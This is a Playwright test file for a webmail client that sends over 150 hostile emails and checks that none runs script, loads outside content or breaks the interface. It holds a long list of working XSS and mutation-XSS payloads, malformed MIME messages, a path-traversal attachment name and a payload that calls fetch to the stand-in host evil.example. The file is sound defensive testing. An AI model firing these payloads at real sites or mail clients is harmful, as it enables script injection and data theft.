import { expect, test } from '@playwright/test';
import { ANNA, deliver, html, signIn } from './world';

// What a script of a stranger would do if it ran, and where it would reach.
const RUN = 'top.ran=1;parent.ran=1;window.ran=1;fetch("https://evil.example/ran")';
const AWAY = 'https://evil.example';

const markup = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`, `<scr<script>ipt>${RUN}</script>`, `<script type=module>${RUN}</script>`, `<noscript><img src=x onerror='${RUN}'></noscript>`,
  `<img src=x onerror='${RUN}'>`, `<img src=x onload='${RUN}' srcset='${AWAY}/1 1x'>`, `<image src=x onerror='${RUN}'>`, `<body onload='${RUN}'>`, `<body background='${AWAY}/b'>`,
  `<svg onload='${RUN}'>`, `<svg><script>${RUN}</script></svg>`, `<svg><image href='${AWAY}/i'/></svg>`, `<svg><use href='${AWAY}/s#x'/></svg>`, `<svg><animate onbegin='${RUN}' attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc='<script>${RUN}</script>'></foreignObject></svg>`, `<math><mi xlink:href='javascript:${RUN}'>x</mi></math>`, `<math><annotation-xml encoding='text/html'><script>${RUN}</script></annotation-xml></math>`,
  `<iframe src='javascript:${RUN}'></iframe>`, `<iframe srcdoc='<script>${RUN}</script>'></iframe>`, `<iframe src='${AWAY}/f'></iframe>`, `<frameset onload='${RUN}'>`, `<object data='${AWAY}/o'></object>`, `<object data='data:text/html,<script>${RUN}</script>'></object>`,
  `<embed src='${AWAY}/e'>`, `<embed src='javascript:${RUN}'>`, `<applet code=x archive='${AWAY}/a'>`, `<link rel=stylesheet href='${AWAY}/c.css'>`, `<link rel=preload as=image href='${AWAY}/p'>`, `<link rel=dns-prefetch href='//evil.example'>`,
  `<style>@import url('${AWAY}/i.css');</style>`, `<style>body{background:url(${AWAY}/b)}</style>`, `<style>@font-face{font-family:x;src:url(${AWAY}/f)}p{font-family:x}</style><p>x`, `<div style='background:url(${AWAY}/b)'>x</div>`, `<div style='background-image:image-set("${AWAY}/b" 1x)'>x</div>`,
  `<div style='list-style-image:url(${AWAY}/l)'>x</div>`, `<div style='content:url(${AWAY}/c)'>x</div>`, `<div style='cursor:url(${AWAY}/c),auto'>x</div>`, `<div style='border-image:url("${AWAY}/b")'>x</div>`, `<div style="width:expression(${RUN})">x</div>`,
  `<p style='position:fixed;inset:0;z-index:99999;background:red'>cover</p>`, `<meta http-equiv=refresh content='0;url=${AWAY}/m'>`, `<meta http-equiv=refresh content='0;url=javascript:${RUN}'>`, `<base href='${AWAY}/'><img src=b>`, `<form action='${AWAY}/f'><input autofocus onfocus='${RUN}'><button>x</button></form>`,
  `<form><button formaction='javascript:${RUN}'>x</button></form>`, `<input type=image src='${AWAY}/i'>`, `<isindex action='javascript:${RUN}'>`, `<select autofocus onfocus='${RUN}'>`, `<textarea autofocus onfocus='${RUN}'>`, `<keygen autofocus onfocus='${RUN}'>`,
  `<video src='${AWAY}/v' onerror='${RUN}'></video>`, `<video poster='${AWAY}/p'></video>`, `<audio src='${AWAY}/a' autoplay onerror='${RUN}'></audio>`, `<video><source src='${AWAY}/s' onerror='${RUN}'></video>`, `<track src='${AWAY}/t'>`, `<picture><source srcset='${AWAY}/s'><img src=x></picture>`,
  `<details open ontoggle='${RUN}'>x</details>`, `<marquee onstart='${RUN}'>x</marquee>`, `<dialog open onclose='${RUN}'>x</dialog>`, `<template><script>${RUN}</script></template>`, `<slot onslotchange='${RUN}'></slot>`, `<portal src='${AWAY}/p'></portal>`,
  `<a href='javascript:${RUN}'>click</a>`, `<a href='JaVaScRiPt:${RUN}'>click</a>`, `<a href=' javascript:${RUN}'>click</a>`, `<a href='java&#10;script:${RUN}'>click</a>`, `<a href='&#106;avascript:${RUN}'>click</a>`, `<a href='data:text/html,<script>${RUN}</script>'>click</a>`,
  `<a href='vbscript:x'>click</a>`, `<a href='${AWAY}/x' ping='${AWAY}/ping'>x</a>`, `<a href='blob:${AWAY}/x'>click</a>`, `<a href='filesystem:${AWAY}/x'>click</a>`, `<a href='view-source:${AWAY}'>click</a>`, `<area href='javascript:${RUN}' shape=default>`,
  `<div onmouseover='${RUN}'>x</div>`, `<div onpointerenter='${RUN}' style='position:fixed;inset:0'>x</div>`, `<div onanimationstart='${RUN}' style='animation:x 1s'>x</div>`, `<div ontransitionend='${RUN}'>x</div>`, `<div contenteditable onfocus='${RUN}' autofocus>x</div>`, `<div id=app>x</div>`,
  `<p id=messages>x</p><p id=search>x</p>`, `<a name=location href=x>x</a>`, `<img name=getElementById>`, `<form name=cookie><input name=x></form>`, `<table background='${AWAY}/t'><tr><td background='${AWAY}/d'>x</table>`, `<img lowsrc='${AWAY}/l' dynsrc='${AWAY}/d'>`,
  `<img src='//evil.example/x'>`, `<img src='\\\\evil.example\\x'>`, `<img src='/\\evil.example/x'>`, `<img src='data:image/svg+xml,<svg onload="${RUN}"/>'>`, `<img src='data:text/html,<script>${RUN}</script>'>`, `<img src='cid:none'>`, `<img src='/jmap/api'>`, `<img src='/auth/sign-out'>`,
  `<!--<img src="--><img src=x onerror='${RUN}'>`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml-stylesheet href='${AWAY}/x.xsl'?>`, `<!DOCTYPE html [<!ENTITY x SYSTEM '${AWAY}/x'>]>&x;`, `<xmp><script>${RUN}</script></xmp>`, `<plaintext><script>${RUN}</script>`, `<listing>&lt;img onerror=${RUN} src=x&gt;</listing>`,
  `<noembed><img src=x onerror='${RUN}'></noembed>`, `<noframes><script>${RUN}</script></noframes>`, `<title><img src=x onerror='${RUN}'></title>`, `<math><mtext><table><mglyph><style><!--</style><img src=x onerror='${RUN}'>`, `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='${RUN}'>`,
  `<select><template><img src=x onerror='${RUN}'></template></select>`, `<table><colgroup><template><script>${RUN}</script>`, `<b ${'a '.repeat(5000)}onclick='${RUN}'>x</b>`, '<div>'.repeat(3000), `<table>${'<tr><td>'.repeat(3000)}`, `${'<b>'.repeat(2000)}x`, `<p>${'\u202e'.repeat(500)}gnp.exe</p>`,
  `<p>${'x'.repeat(200_000)}</p>`, `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>`, `<script\u000b>${RUN}</script>`, `<img\u000bsrc=x\u000bonerror='${RUN}'>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<meta charset=utf-7>+ADw-img src=x onerror='${RUN}'+AD4-`, `%3Cscript%3E${RUN}%3C/script%3E`,
];

// The same in places that are no HTML.
const plain = [`<script>${RUN}</script>`, `<img src=x onerror='${RUN}'>`, `"><svg onload='${RUN}'>`, `javascript:${RUN}`, `{{constructor.constructor("${RUN}")()}}`, "${RUN}", `'-${RUN}-'`, `\u2028${RUN}`];

function malformed(): string[] {
  const head = `From: Guest <guest@example.net>\r\nTo: ${ANNA}\r\nDate: ${new Date().toUTCString()}\r\n`;
  const mixed = (body: string): string => `${head}Subject: hostile malformed\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${body}`;
  const file = (type: string, name: string, text: string): string => `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${text}\r\n`;
  return [
    `${head}Subject: hostile malformed\r\nContent-Type: text/html; charset=nonsense\r\n\r\n<script>${RUN}</script>`,
    `${head}Subject: hostile malformed\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!`,
    `${head}Subject: hostile malformed\r\nContent-Type: text/html; charset=utf-16\r\n\r\n\u00ff\u00fe<\u0000s\u0000>\u0000`,
    `${head}Subject: =?utf-8?B?////?= hostile malformed\r\n\r\nx`,
    `${head}Subject: hostile malformed ${'=?utf-8?Q?=3Cscript=3E?='.repeat(50)}\r\n\r\nx`,
    mixed(''), mixed('--b\r\n'), mixed('--b--\r\n'), mixed(`--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n`), mixed(`--b\r\nContent-Type: message/rfc822\r\n\r\n--b\r\n`),
    mixed(file('text/html', 'page.html', `<script>${RUN}</script>`)), mixed(file('image/svg+xml', 'picture.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)),
    mixed(file('image/png', `"><img src=x onerror='${RUN}'>.png`, 'no picture')), mixed(file('image/png', '../../../etc/passwd', 'x')),
    mixed(file('text/calendar; method=REQUEST', 'invite.ics', `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:x\r\nDTSTAMP:20260101T000000Z\r\nDTSTART:20260101T000000Z\r\nSUMMARY:<img src=x onerror='${RUN}'>\r\nDESCRIPTION:<script>${RUN}</script>\r\nURL:javascript:${RUN}\r\nORGANIZER:mailto:guest@example.net\r\nATTENDEE:mailto:${ANNA}\r\nEND:VEVENT\r\nEND:VCALENDAR`)),
    mixed(file('text/vcard', 'card.vcf', `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:<img src=x onerror='${RUN}'>\r\nNOTE:<script>${RUN}</script>\r\nURL:javascript:${RUN}\r\nPHOTO:${AWAY}/p\r\nEND:VCARD`)),
  ];
}

const all = [
  ...markup.map((body, at) => html(`hostile ${at}`, body)),
  ...plain.map((text, at) => html(`hostile subject ${at} ${text.replace(/[\r\n]/g, '')}`, 'x')),
  ...plain.map((text, at) => html(`hostile name ${at}`, 'x', `${JSON.stringify(text.replace(/[^\x20-\x7e]/g, ''))} <guest@example.net>`)),
  ...plain.map((text, at) => `From: guest@example.net\r\nTo: ${ANNA}\r\nSubject: hostile text ${at}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n`),
  ...malformed(),
];

test('at least 150 hostile messages run nothing, load nothing, and break nothing', async ({ page, request }) => {
  test.setTimeout(420_000);
  expect(all.length).toBeGreaterThanOrEqual(150);
  const outside: string[] = [];
  const broken: string[] = [];
  page.on('pageerror', (error) => broken.push(String(error)));
  page.on('dialog', (dialog) => {
    broken.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => broken.push(`a window: ${popup.url()}`));
  await page.route(
    (url) => !url.href.startsWith(process.env.BASE_URL ?? 'none') && /^https?:/.test(url.protocol),
    (route) => {
      outside.push(route.request().url());
      return route.abort();
    },
  );
  for (let at = 0; at < all.length; at += 40) await deliver(request, ANNA, all.slice(at, at + 40));
  await signIn(page, ANNA);
  await expect(page.getByRole('listitem').first()).toBeVisible();
  await expect(page.getByRole('checkbox', { name: /hostile/ }).first()).toBeVisible();
  let read = 0;
  // From one message to the next by the key, as people do.
  await page.keyboard.press('o');
  for (let at = 0; at < all.length; at += 1) {
    await expect(page.locator('article').first()).toBeVisible();
    const frames = page.locator('article iframe');
    await expect(frames.first()).toBeAttached();
    for (const link of await page.frameLocator('article iframe >> nth=-1').getByText('click', { exact: true }).all()) await link.click({ timeout: 2_000, force: true }).catch(() => null);
    read += 1;
    const before = await page.locator('article').first().getAttribute('aria-label');
    await page.keyboard.press('j');
    if (at + 1 < all.length) await page.waitForTimeout(30);
    expect(before).not.toBeNull();
  }
  expect(read).toBe(all.length);
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  expect(outside).toEqual([]);
  expect(broken).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/');
  await expect(page.getByRole('button', { name: 'New message' })).toBeVisible();
});

test('images of other servers are shown when asked for, and only then', async ({ page, request }) => {
  const outside: string[] = [];
  await page.route('https://cdn.example/**', (route) => {
    outside.push(route.request().url());
    return route.fulfill({ contentType: 'image/png', body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64') });
  });
  await deliver(request, ANNA, [html('Newsletter with a picture', '<p>Hello</p><img src="https://cdn.example/a.png">')]);
  await signIn(page, ANNA);
  await page.getByRole('button', { name: /Newsletter with a picture/ }).click();
  await expect(page.frameLocator('iframe').getByText('Hello')).toBeVisible();
  expect(outside).toEqual([]);
  await page.getByRole('button', { name: 'Show images' }).click();
  await expect.poll(() => outside).toEqual(['https://cdn.example/a.png']);
});
